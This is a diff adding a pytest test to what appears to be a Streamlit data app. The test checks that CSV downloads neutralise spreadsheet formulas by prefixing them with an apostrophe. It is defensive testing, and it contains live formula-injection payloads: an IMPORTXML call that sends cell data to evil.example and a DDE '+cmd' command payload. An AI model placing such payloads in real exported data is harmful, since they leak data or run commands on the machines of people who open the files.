@@ -152,3 +152,24 @@ def test_long_source_lists_are_capped_on_screen_and_complete_in_the_download(app
     everything = list(csv.DictReader(io.StringIO(download(at, "Download these sources (CSV)").decode())))
     assert [int(r["csv line"]) for r in everything] == [8, 7, 6, 5, 4, 3, 2]
     assert everything[0]["link"] == "https://example.org/7" and everything[0]["reported"] == "10"
+
+
+def test_downloads_neutralise_formulas_from_the_data(app, monkeypatch, write_csv):
+    attack = '=IMPORTXML(CONCAT("http://evil.example/?",B2),"//a")'
+    rows = [row(id="k", title=attack, claimant="+cmd|' /C calc'!A0", source_title="@SUM(A1)")]
+    monkeypatch.setenv("EVENTS_CSV", str(write_csv(csv_text(rows))))
+    at = AppTest.from_file(APP, default_timeout=60)
+    at.run()
+    [source] = list(csv.DictReader(io.StringIO(download(at, "Download these sources (CSV)").decode())))
+    assert (source["figure"], source["claim by"], source["title"]) == ("'" + attack, "'+cmd|' /C calc'!A0", "'@SUM(A1)")
+    card = app_card(monkeypatch, write_csv(csv_text(rows)))
+    [figure] = list(csv.DictReader(io.StringIO(download(card, "Download figures (CSV)").decode())))
+    assert figure["claimant"].startswith("'+") and figure["source_title"] == "'@SUM(A1)"
+
+
+def app_card(monkeypatch, path) -> AppTest:
+    monkeypatch.setenv("EVENTS_CSV", str(path))
+    at = AppTest.from_file(APP, default_timeout=60)
+    at.query_params["province"], at.query_params["view"] = "Kratie", "card"
+    at.run()
+    return at
